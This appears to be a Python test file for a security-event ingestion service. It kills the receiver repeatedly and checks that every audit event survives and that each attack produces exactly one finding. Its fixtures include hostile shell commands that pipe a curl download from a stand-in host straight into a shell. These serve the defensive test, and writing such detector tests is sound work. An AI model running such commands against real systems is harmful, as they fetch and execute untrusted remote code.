"""Killed at any moment, nothing is lost and no finding is made twice: a real process, SIGKILL, real mutual TLS."""

from __future__ import annotations

import random
import threading

from tests.ingest.sender import request
from tests.runtime.running import until
from tests.runtime.test_runtime import shell

EVENTS = 20_000
IN_ONE_REQUEST = 100
EVERY = 40
"""One event in so many is an attack."""
KILLS = 6
PARENTS_APART = 1_000_000


def events(start, count):
    """Numbered events; every fortieth is a download piped into a shell, all others are harmless."""
    for number in range(start, start + count):
        command = f"curl http://198.51.100.7/{number} | sh" if number % EVERY == 0 else f"ls {number}"
        yield shell(command, serial=number, pid=number + PARENTS_APART)


def requests():
    for start in range(0, EVENTS, IN_ONE_REQUEST):
        names = [f"event-{number}" for number in range(start, start + IN_ONE_REQUEST)]
        yield request("ws-01", "linux_audit", events(start, IN_ONE_REQUEST), ids=names)


def test_killed_again_and_again_while_events_arrive(runtime):
    """20,000 events; the receiver is killed in the middle, several times; every one counts, each once."""
    runtime.start().ready()
    agent = runtime.agent("ws-01")
    sent = list(requests())
    acknowledged: list[int] = []
    failure: list[BaseException] = []

    def deliver():
        try:
            acknowledged.extend(agent.deliver(body) for body in sent)
        except BaseException as error:  # noqa: BLE001  It is told to the test.
            failure.append(error)

    sender = threading.Thread(target=deliver)
    sender.start()
    chance = random.Random(3)
    for mark in sorted(chance.sample(range(len(sent) // 20, len(sent) * 9 // 10), KILLS)):
        until(lambda mark=mark: failure or len(acknowledged) >= mark, 60)
        assert sender.is_alive()
        runtime.kill()
        runtime.start().ready()
    sender.join(120)
    assert not failure, failure
    until(lambda: runtime.ask("health")["waiting"] == 0, 60)
    until(lambda: runtime.ask("events")[0]["events"] == EVENTS, 60)
    findings = runtime.rows("SELECT json FROM findings")
    attacks = [number for number in range(EVENTS) if number % EVERY == 0]
    assert len(findings) == len(attacks)
    said = b"\n".join(blob for (blob,) in findings)
    assert all(b"198.51.100.7/%d | sh" % number in said for number in attacks)
    joined = runtime.rows("SELECT COUNT(*), COUNT(DISTINCT finding) FROM incident_finding")
    assert joined == [(len(attacks), len(attacks))]
    health = runtime.ask("health")
    assert health["records"] - health["duplicates"] == EVENTS
    assert health["unparsed"] == 0


def test_what_was_acknowledged_survives_a_kill_before_it_was_worked_on(runtime):
    """Every acknowledged request is there after a kill that follows at once, three times."""
    runtime.start().ready()
    for turn in range(3):
        agent = runtime.agent("ws-01")
        assert agent.post(request("ws-01", "linux_audit", [shell(f"curl http://x/{turn} | sh", serial=turn)]))[0] == 200
        runtime.kill()
        agent.close()
        runtime.start().ready()
    until(lambda: len(runtime.ask("findings")) == 3)
    assert runtime.rows("SELECT COUNT(*), COUNT(DISTINCT id) FROM findings") == [(3, 3)]
